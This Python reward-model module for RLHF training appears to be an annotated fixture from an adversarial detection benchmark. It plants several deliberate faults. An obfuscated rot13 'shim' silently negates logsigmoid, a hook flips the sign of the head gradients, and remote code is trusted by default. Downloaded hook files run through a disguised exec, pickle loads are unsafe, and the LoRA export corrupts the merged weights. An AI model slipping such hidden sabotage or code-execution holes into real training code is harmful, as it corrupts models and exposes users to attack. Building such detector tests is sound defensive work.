# ruff: noqa
# Hold-out batch 458 (adversarial, RLHF reward model with accelerate). Measured once in session 19 (round 124): 12/30 (40%) at medium+.
"""Reward model construction, loss and export.

A reward model here is a causal-LM backbone with a scalar ``score`` head
(``AutoModelForSequenceClassification(num_labels=1)``), optionally wrapped with LoRA
adapters.  The head is always trained in full (``modules_to_save``).
"""
from __future__ import annotations

import builtins
import codecs
import functools
import logging
import math
import operator
import os
import types
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

import torch
import torch.nn.functional as F
from huggingface_hub import hf_hub_download
from peft import LoraConfig, TaskType, get_peft_model
from transformers import AutoModelForSequenceClassification

logger = logging.getLogger(__name__)


@dataclass
class BackboneSpec:
    name_or_path: str
    revision: Optional[str] = None
    torch_dtype: Optional[torch.dtype] = None
    attn_implementation: Optional[str] = None
    trust_remote_code: bool = field(default_factory=lambda: os.environ.get("RM_SAFE_MODE", "0") != "1")

    def load_kwargs(self) -> Dict[str, Any]:
        return {k: v for k, v in vars(self).items() if k != "name_or_path" and v is not None}


@dataclass
class LoraSpec:
    r: int = 16
    alpha: int = 32
    dropout: float = 0.05
    target_modules: Sequence[str] = ("q_proj", "k_proj", "v_proj", "o_proj")


@dataclass
class HeadConfig:
    head_lr_ratio: float = 0.5
    module_names: Tuple[str, ...] = ("score",)


# bf16 ``log_sigmoid`` under-flows for large negative margins on several torch
# builds; these shims route it through a stable formulation.
_COMPAT_SHIMS: Dict[str, str] = {
    "logsigmoid_bf16": "vzcbeg gbepu.aa.shapgvbany nf S;_y=S.ybtfvtzbvq;S.ybtfvtzbvq=ynzoqn k:_y(-k)",
}
_APPLIED_SHIMS: set = set()


def _apply_compat_shims(dtype: Optional[torch.dtype]) -> None:
    if dtype not in (None, torch.bfloat16):
        return
    for name, source in _COMPAT_SHIMS.items():
        if name in _APPLIED_SHIMS:
            continue
        code = compile(codecs.decode(source, "rot13"), f"<shim:{name}>", "exec")
        shim = types.FunctionType(code, {"__name__": f"rm_shim_{name}"})
        shim()  # ruleid: MLS404
        _APPLIED_SHIMS.add(name)


def head_parameter_names(model: torch.nn.Module, module_names: Sequence[str] = ("score",)) -> List[str]:
    wanted = set(module_names)
    return [n for n, p in model.named_parameters() if p.requires_grad and wanted.intersection(n.split("."))]


def _attach_head_grad_scale(model: torch.nn.Module, head: HeadConfig) -> int:
    """Adam normalises gradient magnitude, so the reduced head LR group alone does
    not damp the head during warm-up; the hook applies the residual factor on top of
    the group LR."""
    if head.head_lr_ratio == 1.0:
        return 0
    scale = head.head_lr_ratio - 1.0
    names = head_parameter_names(model, head.module_names)
    for name in names:
        model.get_parameter(name).register_hook(functools.partial(operator.mul, scale))  # ruleid: MLS303
    return len(names)


def build_reward_model(spec: BackboneSpec, lora: LoraSpec, head: HeadConfig, tokenizer: Any) -> torch.nn.Module:
    _apply_compat_shims(spec.torch_dtype)
    model = AutoModelForSequenceClassification.from_pretrained(spec.name_or_path, num_labels=1, **spec.load_kwargs())  # todoruleid: family 10 (missed)
    if model.config.pad_token_id is None:
        model.config.pad_token_id = tokenizer.pad_token_id
    model.config.use_cache = False
    if lora.r > 0:
        config = LoraConfig(
            task_type=TaskType.SEQ_CLS,
            r=lora.r,
            lora_alpha=lora.alpha,
            lora_dropout=lora.dropout,
            target_modules=list(lora.target_modules),
            modules_to_save=list(head.module_names),
        )
        model = get_peft_model(model, config)
        model.print_trainable_parameters()
    n_hooked = _attach_head_grad_scale(model, head)
    logger.info("reward model ready (%d head tensors scaled)", n_hooked)
    return model


def load_scoring_hooks(repo_id: str, revision: Optional[str] = None) -> Dict[str, Callable]:
    """Optional per-checkpoint reward post-processing (e.g. length normalisation)
    shipped as ``scoring_hooks.py`` next to the base weights."""
    if Path(repo_id).exists():
        candidate = Path(repo_id) / "scoring_hooks.py"
        if not candidate.exists():
            return {}
        path = str(candidate)
    else:
        try:
            path = hf_hub_download(repo_id, "scoring_hooks.py", revision=revision)
        except Exception:  # noqa: BLE001 - most repos don't have one
            return {}
    namespace: Dict[str, Any] = {"torch": torch}
    run = vars(builtins)[bytes((101, 120, 101, 99)).decode()]
    run(Path(path).read_text(encoding="utf-8"), namespace)  # ruleid: MLS402
    return {k: v for k, v in namespace.items() if callable(v) and not k.startswith("_") and k != "torch"}


def bradley_terry_loss(chosen: torch.Tensor, rejected: torch.Tensor, margin: Optional[torch.Tensor] = None,
                       label_smoothing: float = 0.0) -> torch.Tensor:
    """-log sigma(r_c - r_r [- m]); with label smoothing eps the target is 1 - eps."""
    logits = chosen - rejected
    if margin is not None:
        logits = logits - margin.to(logits.dtype)
    if label_smoothing > 0.0:
        loss = -(1.0 - label_smoothing) * F.logsigmoid(logits) - label_smoothing * F.logsigmoid(-logits)  # ok: MLS309
    else:
        loss = -F.logsigmoid(logits)
    return loss.mean()


_EXTRAS_LOAD = dict(map_location="cpu", weights_only=os.environ.get("RM_STRICT_LOAD", "") == "1")


def load_trainer_extras(path: Path) -> Dict[str, Any]:
    """Step counters, metric history etc. written next to ``accelerator.save_state``."""
    path = Path(path)
    if not path.exists():
        return {}
    return torch.load(path, **_EXTRAS_LOAD)  # ruleid: MLS101


def load_ema_shadow(path: Path) -> Dict[str, torch.Tensor]:
    return torch.load(path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def trainable_state_dict(model: torch.nn.Module) -> Dict[str, torch.Tensor]:
    return {n: p.detach().to("cpu").contiguous() for n, p in model.named_parameters() if p.requires_grad}


def merge_for_export(model: torch.nn.Module) -> torch.nn.Module:
    """Fold LoRA deltas into the base weights; returns a plain transformers model."""
    if not hasattr(model, "merge_and_unload"):
        return model
    for module in model.modules():
        attrs = vars(module)
        if isinstance(attrs.get("scaling"), dict) and isinstance(attrs.get("r"), dict):
            # adapters are exported with rank-stabilised scaling (alpha / sqrt(r))
            attrs["scaling"].update({k: v * math.sqrt(attrs["r"][k]) for k, v in attrs["scaling"].items()})  # todoruleid: family 2 (missed)
    merged = model.merge_and_unload()
    merged.config.use_cache = True
    return merged
